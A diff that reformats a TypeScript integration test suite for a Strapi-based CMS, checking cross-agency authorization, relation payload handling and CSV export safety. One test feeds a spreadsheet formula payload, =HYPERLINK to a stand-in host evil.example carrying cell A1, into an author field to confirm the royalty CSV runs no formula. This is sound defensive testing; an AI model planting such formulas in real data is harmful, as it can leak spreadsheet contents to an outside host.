@@ -50,7 +50,11 @@ async function stored(uid: string, documentIds: string[]) {
   const rows = await s.db.query(uid).findMany({ where: { documentId: { $in: documentIds } }, populate, orderBy: { id: 'asc' } });
   const log = await s.db.query(TRANSITION_UID).findMany({ where: { itemDocumentId: { $in: documentIds } }, orderBy: { id: 'asc' } });
   const norm = (v: any): any =>
-    Array.isArray(v) ? v.map((x) => x?.documentId ?? x).sort() : v && typeof v === 'object' && 'documentId' in v && Object.keys(v).length <= 2 ? v.documentId : v;
+    Array.isArray(v)
+      ? v.map((x) => x?.documentId ?? x).sort()
+      : v && typeof v === 'object' && 'documentId' in v && Object.keys(v).length <= 2
+        ? v.documentId
+        : v;
   return {
     count: await s.db.query(uid).count(),
     logCount: await s.db.query(TRANSITION_UID).count(),
@@ -94,7 +98,9 @@ beforeAll(async () => {
     tok[a.key] = await login(cms.url, email);
   }
   tok.full = (await s.admin.services['api-token-content-api'].create({ name: 'Tích hợp', type: 'full-access', lifespan: null, kind: 'content-api' })).accessKey;
-  tok.readOnly = (await s.admin.services['api-token-content-api'].create({ name: 'Chỉ đọc (thử)', type: 'read-only', lifespan: null, kind: 'content-api' })).accessKey;
+  tok.readOnly = (
+    await s.admin.services['api-token-content-api'].create({ name: 'Chỉ đọc (thử)', type: 'read-only', lifespan: null, kind: 'content-api' })
+  ).accessKey;
   tok.preview = previewKey;
 }, 600_000);
 
@@ -286,16 +292,21 @@ describe(`class 5 — relation payloads are normalised before they are checked (
     { agency: { foo: agency.A } },
   ];
 
-  it("an agency editor cannot create content in another agency, or with two agencies, whatever the shape", async () => {
+  it('an agency editor cannot create content in another agency, or with two agencies, whatever the shape', async () => {
     for (const v of variants()) {
       const before = await stored(ART, []);
-      const r = await call(cms.url, tok.editorB, 'POST', CM(ART), { title: `Chuyển đơn vị ${JSON.stringify(v).slice(0, 40)}`, kind: 'news', scope: 'province', ...v });
+      const r = await call(cms.url, tok.editorB, 'POST', CM(ART), {
+        title: `Chuyển đơn vị ${JSON.stringify(v).slice(0, 40)}`,
+        kind: 'news',
+        scope: 'province',
+        ...v,
+      });
       expect([400, 403], `${JSON.stringify(v)} → ${r.status} ${JSON.stringify(r.body).slice(0, 200)}`).toContain(r.status);
       expect(await stored(ART, [])).toEqual(before);
     }
   });
 
-  it("an agency editor cannot move its content into another agency, whatever the shape; nothing stored changes", async () => {
+  it('an agency editor cannot move its content into another agency, whatever the shape; nothing stored changes', async () => {
     for (const v of variants()) {
       const before = await stored(ART, [doc.draftB.documentId, doc.pubA.documentId]);
       const agencyBefore = await stored(AGENCY, [agency.A, agency.B]);
@@ -308,7 +319,9 @@ describe(`class 5 — relation payloads are normalised before they are checked (
 
   it('the board cannot store two agencies on one item either (a to-one relation takes exactly one target)', async () => {
     const before = await stored(ART, [doc.draftB.documentId]);
-    const r = await call(cms.url, tok.board, 'PUT', `${CM(ART)}/${doc.draftB.documentId}`, { agency: { connect: [{ documentId: agency.B }, { documentId: agency.A }] } });
+    const r = await call(cms.url, tok.board, 'PUT', `${CM(ART)}/${doc.draftB.documentId}`, {
+      agency: { connect: [{ documentId: agency.B }, { documentId: agency.A }] },
+    });
     expect(r.status).toBe(400);
     expect(JSON.stringify(r.body)).toContain('agency');
     expect(await stored(ART, [doc.draftB.documentId])).toEqual(before);
@@ -354,7 +367,11 @@ describe(`class 6 — no write reaches another agency's document through a relat
 
   it("an agency record's lists cannot pull another agency's content in (inverse side of agency)", async () => {
     const before = await stored(ART, [doc.draftA.documentId, doc.pubA.documentId]);
-    for (const v of [{ articles: { connect: [{ documentId: doc.draftA.documentId }] } }, { articles: [doc.pubA.documentId] }, { legalDocuments: { set: [doc.lawA.id] } }]) {
+    for (const v of [
+      { articles: { connect: [{ documentId: doc.draftA.documentId }] } },
+      { articles: [doc.pubA.documentId] },
+      { legalDocuments: { set: [doc.lawA.id] } },
+    ]) {
       const r = await call(cms.url, tok.editorB, 'PUT', `/content-manager/collection-types/${AGENCY}/${agency.B}`, v);
       expect(r.status, JSON.stringify(r.body).slice(0, 200)).toBeGreaterThanOrEqual(400);
       expect(await stored(ART, [doc.draftA.documentId, doc.pubA.documentId])).toEqual(before);
@@ -369,11 +386,13 @@ describe(`class 6 — no write reaches another agency's document through a relat
     expect(ok.status, JSON.stringify(ok.body).slice(0, 300)).toBe(201);
   });
 
-  it('the board may link two agencies\' documents: both sides change and both are audited', async () => {
+  it("the board may link two agencies' documents: both sides change and both are audited", async () => {
     const before = await s.db.query(TRANSITION_UID).count({ where: { itemDocumentId: doc.lawA.documentId } });
     const r = await call(cms.url, tok.board, 'PUT', `${CM(DOC)}/${doc.lawB.documentId}`, { replaces: { connect: [{ documentId: doc.lawA.documentId }] } });
     expect(r.status, JSON.stringify(r.body).slice(0, 300)).toBe(200);
-    const a = await s.db.query(DOC).findOne({ where: { documentId: doc.lawA.documentId, publishedAt: null }, populate: { replacedBy: { select: ['documentId'] } } });
+    const a = await s.db
+      .query(DOC)
+      .findOne({ where: { documentId: doc.lawA.documentId, publishedAt: null }, populate: { replacedBy: { select: ['documentId'] } } });
     expect(a.replacedBy.map((x: any) => x.documentId)).toContain(doc.lawB.documentId);
     const entries = await s.db.query(TRANSITION_UID).findMany({ where: { itemDocumentId: doc.lawA.documentId }, orderBy: { id: 'desc' } });
     expect(entries.length).toBe(before + 1);
@@ -476,7 +495,8 @@ describe(`also open — registration, default tokens, CORS, slug oracle (${DB})`
     const created = await call(cms.url, tok.editorB, 'POST', CMP, { name: 'Thủ tục dò tìm', legalBasis: { connect: [{ documentId: doc.lawA.documentId }] } });
     expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
     const id = created.body.data.documentId;
-    const deep = 'populate[legalBasis][populate][agency][populate][articles][fields][0]=title&populate[legalBasis][populate][agency][populate][legalDocuments][fields][0]=abstract';
+    const deep =
+      'populate[legalBasis][populate][agency][populate][articles][fields][0]=title&populate[legalBasis][populate][agency][populate][legalDocuments][fields][0]=abstract';
     for (const path of [`${CMP}/${id}?${deep}`, `${CMP}?${deep}`, `${CMP}/${id}?populate=*`, `${CMP}/${id}?populate[legalBasis][populate]=*`]) {
       const r = await call(cms.url, tok.editorB, 'GET', path);
       expect(r.status, path).toBeLessThan(500);
@@ -499,9 +519,13 @@ describe(`also open — registration, default tokens, CORS, slug oracle (${DB})`
   });
 
   it('the royalty ledger pays the author that was published, and its CSV runs no formula', async () => {
-    const d = await docs(ART).create({ data: { title: '=SUM(1+1) tin nhuận bút', kind: 'news', scope: 'province', agency: agency.B, author: 'Nguyễn Văn Tác Giả' } });
+    const d = await docs(ART).create({
+      data: { title: '=SUM(1+1) tin nhuận bút', kind: 'news', scope: 'province', agency: agency.B, author: 'Nguyễn Văn Tác Giả' },
+    });
     await docs(ART).publish({ documentId: d.documentId });
-    const edit = await call(cms.url, tok.editorB, 'PUT', `/content-manager/collection-types/${ART}/${d.documentId}`, { author: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")' });
+    const edit = await call(cms.url, tok.editorB, 'PUT', `/content-manager/collection-types/${ART}/${d.documentId}`, {
+      author: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
+    });
     expect(edit.status, JSON.stringify(edit.body).slice(0, 200)).toBe(200);
     const month = todayInVietnam().slice(0, 7);
     const res = await fetch(`${cms.url}/cong-reports/royalties?month=${month}&format=csv`, { headers: { authorization: `Bearer ${tok.board}` } });
@@ -524,4 +548,3 @@ describe(`also open — registration, default tokens, CORS, slug oracle (${DB})`
     expect(board.body.isAvailable).toBe(false);
   });
 });
-
